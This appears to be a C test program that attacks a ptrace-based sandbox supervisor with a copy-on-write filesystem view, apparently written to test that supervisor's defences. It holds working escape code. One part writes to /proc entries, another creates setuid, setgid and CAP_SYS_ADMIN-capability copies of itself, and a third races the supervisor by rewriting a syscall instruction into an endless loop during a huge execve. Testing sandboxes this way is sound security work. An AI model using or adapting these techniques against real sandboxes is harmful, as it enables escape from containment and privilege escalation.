/*
 * attack-view.c - ways from a command that is learned on the copy-on-write view to what is real: through what the
 * supervisor opens for it, and through entries of /proc that are about more than one process.
 *
 * usage: attack-view open        attempts at opening what the command itself may not
 *        attack-view identity    makes programs that would give others the caller's identity; prints where they really lie,
 *                                waits for a line
 *        attack-view loop        executes what only the view has, from code that another thread makes an endless loop of while
 *                                the supervisor has the call made: it waits for a stop that does not come (x86_64)
 *
 * Works in the working directory, where a new file may be made.
 */
#include <pthread.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include "attack.h"

#define FIRST_LINK "link"
#define CAP_XATTR  "security.capability"

/* ---- open ---- */

/* What is open for reading or writing, and not only a place. */
static long is_open(int fd)
{
	int flags = fd < 0 ? -1 : fcntl(fd, F_GETFL);

	if (flags >= 0 && flags & O_PATH) {
		errno = EBADF;
		return -1;
	}
	return flags < 0 ? -1 : 0;
}

static long open_write(const char *path)
{
	return open(path, O_WRONLY);
}

static long o_session(void)
{
	return open_write("/proc/self/autogroup");
}

static long o_own(void)
{
	return open_write("/proc/self/comm");
}

/* A reference to a device, by a thread that the supervisor cannot trace: the next best that it may be given. */
static long o_reference(const char *target)
{
	int status = 0;
	pid_t pid;

	unlink(FIRST_LINK);
	if (symlink(target, FIRST_LINK) < 0)
		return -1;
	pid = fork();
	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		errno = 0;
		_exit(is_open(open(FIRST_LINK, O_PATH)) < 0 ? errno : 0);
	}
	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status))
		ptrace(PTRACE_CONT, pid, NULL, WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status));
	errno = WEXITSTATUS(status);
	return errno ? -1 : 0;
}

static long o_reference_device(void)
{
	return o_reference("/dev/zero");
}

static const struct attempt opening[] = {
	{"autogroup", o_session},
	{"comm", o_own},
	{"reference-device", o_reference_device},
};

/* ---- identity ---- */

static void copy_self(const char *name)
{
	char buf[65536];
	int from = attack_open("/proc/self/exe", O_RDONLY), to = open(name, O_WRONLY | O_CREAT | O_EXCL, 0755);
	ssize_t n;

	if (to < 0)
		attack_die(name);
	while ((n = read(from, buf, sizeof(buf))) > 0)
		if (write(to, buf, (size_t)n) != n)
			attack_die("write");
	close(from);
	close(to);
}

/* Where the kernel says that a file lies of which this process has a mapping. */
static void print_place(const char *name)
{
	char line[4352];
	int fd = attack_open(name, O_RDONLY);
	void *at = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	FILE *maps = fopen("/proc/self/maps", "r");

	if (at == MAP_FAILED || !maps)
		attack_die("maps");
	while (fgets(line, sizeof(line), maps))
		if ((void *)(uintptr_t)strtoul(line, NULL, 16) == at)
			printf("%s: %s", name, strchr(line, '/') ? strchr(line, '/') : "?\n");
	fclose(maps);
	munmap(at, 4096);
	close(fd);
}

static void make_programs(void)
{
	/* VFS_CAP_REVISION_2, effective, CAP_SYS_ADMIN */
	static const uint32_t caps[5] = {0x02000001, 1U << 21, 0, 0, 0};
	struct stat st;

	copy_self("user");
	copy_self("group");
	copy_self("later");
	if (chmod("user", 04755) < 0 || chmod("group", 02755) < 0)
		attack_die("chmod");
	if (setxattr("later", CAP_XATTR, caps, sizeof(caps), 0) < 0)
		printf("later: %s\n", strerrorname_np(errno));
	else
		print_place("later");
	print_place("user");
	print_place("group");
	if (stat("user", &st) < 0)
		attack_die("stat");
	printf("shown: %o\n", st.st_mode & 07777);
	fflush(stdout);
	getchar();
}

/* ---- loop ---- */

#ifdef __x86_64__
#define ARGUMENTS 1000000 /* all of which the supervisor reads before the call: time to change the code */

static unsigned char *code;

static void *loop(void *arg)
{
	usleep(700);
	for (;;) {
		code[0] = 0xeb; /* jmp to itself, in the place of syscall */
		code[1] = 0xfe;
	}
	return arg;
}

static void call_and_loop(void)
{
	static const unsigned char call[] = {0x0f, 0x05, 0xc3}; /* syscall; ret */
	static char *argv[ARGUMENTS + 1], *envp[1];
	register long nr __asm__("rax") = SYS_execve;
	register const char *path __asm__("rdi") = "./script";
	register char **arguments __asm__("rsi") = argv;
	register char **environment __asm__("rdx") = envp;
	pthread_t thread;

	code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (code == MAP_FAILED)
		attack_die("mmap");
	memcpy(code, call, sizeof(call));
	for (size_t i = 0; i < ARGUMENTS; i++)
		argv[i] = (char *)(uintptr_t)"";
	if (pthread_create(&thread, NULL, loop, NULL))
		attack_die("pthread_create");
	nr = SYS_execve;
	path = "./script";
	arguments = argv;
	environment = envp;
	__asm__ volatile("call *%1"
			 : "+r"(nr)
			 : "r"(code), "r"(path), "r"(arguments), "r"(environment)
			 : "rcx", "r11", "memory");
}
#else
static void call_and_loop(void)
{
}
#endif

static void execute_from_loop(void)
{
	int fd = open("script", O_WRONLY | O_CREAT | O_EXCL, 0755);

	if (fd < 0 || write(fd, "#!/bin/true\n", 12) != 12)
		attack_die("script");
	close(fd);
	if (!fork())
		call_and_loop();
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc == 1) { /* what is executed from outside */
		printf("%d %d\n", (int)geteuid(), (int)getegid());
		return 0;
	}
	if (!strcmp(argv[1], "identity")) {
		make_programs();
	} else if (!strcmp(argv[1], "loop")) {
		execute_from_loop();
	} else if (!strcmp(argv[1], "open")) {
		close(attack_open(".", O_RDONLY));
		close(open("change", O_WRONLY | O_CREAT, 0600));
		attack_table(opening, ATTACK_LEN(opening));
	} else {
		return 2;
	}
	return 0;
}
